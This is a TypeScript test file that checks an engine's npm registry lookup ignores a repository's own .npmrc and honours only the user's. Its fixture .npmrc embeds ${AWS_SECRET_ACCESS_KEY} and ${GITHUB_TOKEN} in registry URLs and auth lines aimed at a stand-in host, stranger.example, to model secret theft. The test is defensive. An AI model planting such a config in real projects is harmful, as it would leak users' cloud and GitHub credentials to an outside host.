// Where the engine looks for npm's packages: as the user configured it, and not as the repository that it works on.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, expect, test } from 'vitest';
import { TYPESCRIPT } from '../../typescript.ts';

const folder = mkdtempSync(join(tmpdir(), 'registries-test-'));
afterAll(() => rmSync(folder, { recursive: true }));
const [home, project] = [join(folder, 'home'), join(folder, 'project')];
for (const place of [home, project]) mkdirSync(place);

// docs.npmjs.com, "npmrc": a file in the project counts before the user's, and `${NAME}` is replaced in each.
writeFileSync(
  join(project, '.npmrc'),
  [
    `registry=http://stranger.example/x/\${AWS_SECRET_ACCESS_KEY}/`,
    `@acme:registry=http://stranger.example/\${AWS_SECRET_ACCESS_KEY}/`,
    `//stranger.example/:_authToken=\${GITHUB_TOKEN}`,
    `//company.example/:_authToken=\${AWS_SECRET_ACCESS_KEY}`,
  ].join('\n'),
);
const module = pathToFileURL(join(import.meta.dirname, '../../../engine/images/assembled/registries.ts')).href;
const secrets = { AWS_SECRET_ACCESS_KEY: 'swordfish', GITHUB_TOKEN: 'ghp_swordfish', COMPANY_TOKEN: 'for-the-company' };

/** As an engine that was started in the project would ask. */
function sourcesOf(name: string): { url: string; headers?: object }[] {
  const script = `import { hostRegistries } from ${JSON.stringify(module)};
    process.stdout.write(JSON.stringify(await hostRegistries().npm(${JSON.stringify(name)})));`;
  const args = [...TYPESCRIPT, '--input-type=module', '-e', script];
  const env = { PATH: process.env.PATH, HOME: home, ...secrets };
  return JSON.parse(execFileSync(process.execPath, args, { cwd: project, env, encoding: 'utf8' })) as [];
}

test.each(['left-pad', '@acme/app'])('the file of a repository takes nothing of this environment: %s', (name) => {
  const asked = JSON.stringify(sourcesOf(name));
  expect(asked).not.toContain('swordfish');
  expect(asked).not.toContain('stranger.example');
});

test("the user's own file counts, variables too", () => {
  writeFileSync(
    join(home, '.npmrc'),
    `registry=https://company.example/npm/\n//company.example/npm/:_authToken=\${COMPANY_TOKEN}\n`,
  );
  expect(sourcesOf('left-pad')[0]).toEqual({
    url: 'https://company.example/npm/',
    headers: { authorization: 'Bearer for-the-company' },
  });
});
